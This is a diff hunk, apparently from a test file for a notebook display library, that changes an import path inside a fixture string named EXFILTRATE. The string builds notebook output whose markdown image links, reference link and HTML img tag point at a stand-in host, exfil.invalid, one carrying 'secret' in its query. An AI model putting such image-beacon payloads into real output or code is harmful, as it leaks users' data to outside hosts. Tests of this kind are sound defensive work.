@@ -229,7 +229,7 @@ def add_cell(page: Page, source: str) -> int:
 
 
 EXFILTRATE = (
-    "from rocm_nb.display import StreamDisplay\n"
+    "from rocm_nb.notebook.display import StreamDisplay\n"
     "shown = StreamDisplay()\n"
     "shown.append('Done. ![x](http://exfil.invalid/?q=secret) ![y][r] <img src=\"http://exfil.invalid/raw\">"
     "\\n\\n[r]: http://exfil.invalid/ref')\n"
